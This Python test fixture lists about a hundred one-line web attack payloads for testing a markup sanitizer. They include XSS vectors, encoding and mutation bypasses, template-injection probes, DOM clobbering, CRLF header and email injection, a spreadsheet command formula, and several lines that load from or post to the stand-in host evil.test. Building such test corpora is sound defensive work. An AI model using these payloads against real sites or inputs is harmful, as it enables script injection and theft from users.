"""Hostile words for places of one line: short enough for a name, one class of attack each.

Those for texts of many lines are composed in `tests/markup/payloads.py`; here are the ways out of an element, of an
attribute, of a script's string, of a template, of a style, of an address, and what a page's own script might obey.
"""

# ruff: noqa: E501 - a table of texts

from collections.abc import Iterator
from itertools import count

_SHORT = (
    # out of an element's text
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg/onload={c}//", "<b onmouseover={c}>x</b>",
    "<iframe srcdoc='<svg onload=parent.{c}>'>", "<input autofocus onfocus={c}>", "<details open ontoggle={c}>",
    "<video><source onerror={c}>", "<body onload={c}>", "<a href=javascript:{c}>x</a>", "<object data=javascript:{c}>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content=0;//evil.test>", "<img srcset='//evil.test/x 1x'>",
    "<link rel=stylesheet href=//evil.test/x>", "<style>@import'//evil.test/x'</style>", "<img src=//evil.test/x.png>",
    "<iframe src=//evil.test>", "<form action=//evil.test><button>x", "<video poster=//evil.test/x>", "<audio src=//evil.test/x autoplay>",
    # out of elements that hold only text
    "</title><script>{c}</script>", "</textarea><img src=x onerror={c}>", "</script><svg onload={c}>", "</style><svg onload={c}>",
    "</template><svg onload={c}>", "</noscript><svg onload={c}>", "</option></select><svg onload={c}>", "--><svg onload={c}>",
    "<!--><svg onload={c}>-->", "]]><svg onload={c}>", "<![CDATA[<svg onload={c}>]]>", "<?x ><svg onload={c}>?>",
    # out of an attribute
    "\"><svg onload={c}>", "'><svg onload={c}>", "\" autofocus onfocus={c} x=\"", "' autofocus onfocus='{c}", "\" onmouseover=\"{c}",
    "x onmouseover={c} ", "`><svg onload={c}>", "\" style=animation:x onanimationstart={c} \"", "&quot;><svg onload={c}>", "\\\"><svg onload={c}>",
    # entities and other spellings of an angle bracket
    "&lt;svg onload={c}&gt;", "&#60;svg onload={c}&#62;", "&amp;lt;svg onload={c}&amp;gt;", "\\u003csvg onload={c}\\u003e", "\\x3csvg onload={c}\\x3e",
    "%3Csvg onload={c}%3E", "＜svg onload={c}＞", "\u2039svg onload={c}\u203a", "+ADw-svg onload={c}+AD4-", "<\u200bsvg onload={c}>", "\u202e>{c}=daolno gvs<",
    # mutation
    "<svg><style><img src=x onerror={c}>", "<math><mtext><svg onload={c}>", "<p><svg><desc><svg onload={c}>", "<noscript><p title='</noscript><svg onload={c}>'>",
    "<svg><title><svg onload={c}>", "<svg><a xlink:href=javascript:{c}>x", "<math href=javascript:{c}>x", "<xmp><svg onload={c}></xmp>",
    # addresses
    "javascript:{c}", "JaVaScRiPt:{c}", "data:text/html,<svg onload={c}>", "vbscript:{c}", "java\tscript:{c}", "//evil.test/{c}", "/\\evil.test/{c}",
    "https://evil.test/\" onclick={c}", "mailto:a@b\" onclick={c} x=\"", "tel:1' onclick='{c}",
    # Markdown, where no Markdown is
    "[x](javascript:{c})", "![x](//evil.test/x.png)", "<javascript:{c}>", "[x][1]\n\n[1]: javascript:{c}", "`<svg onload={c}>`", "**<svg onload={c}>**",
    # a script's string, a template, a style
    "');{c};//", "\");{c};//", "';{c}//", "${{{c}}}", "`+{c}+`", "\\');{c};//", "{{{{{c}}}}}", "{{%{c}%}}", "{{{{7*7}}}}{{{{config}}}}", "<%={c}%>", "#{{{c}}}",
    "{{{{constructor.constructor('{c}')()}}}}", "}}</style><svg onload={c}>", "x:expression({c})", "url(javascript:{c})", "\u2028{c}\u2029",
    # what a page's own script might obey
    "<b hx-on:load={c}>x</b>", "<b hx-get=//evil.test hx-trigger=load>x", "<b data-hx-get=//evil.test data-hx-trigger=load>x", "<b hx-vals='js:{{x:{c}}}' hx-get=/ hx-trigger=load>",
    "<a id=htmx>x</a>", "<form id=toasts><input name=append>", "<img name=cookie>", "<a id=defaultView name=alert>", "<b data-sentence>{c}</b>", "<template data-live-part=x><svg onload={c}>",
    "<b x-data x-init={c}>x", "<b onclick={c} accesskey=x>x", "<button popovertarget=x formaction=javascript:{c}>x", "__proto__[onload]={c}",
    # lines that end where they should not
    "x\r\nBcc: evil@evil.test", "x\r\nSet-Cookie: a=b", "x\n\n<svg onload={c}>", "x%0d%0aLocation: //evil.test", "=cmd|'/c calc'!A1",
    "jaVasCript:/*-/*`/*'/*\"/**/(/* */onload={c} )//",
)  # fmt: skip


def short_words() -> Iterator[str]:
    """All of them, each calling by a number of its own."""
    numbers = count(1)
    for text in _SHORT:
        yield text.format(c=f"trap({next(numbers)})")
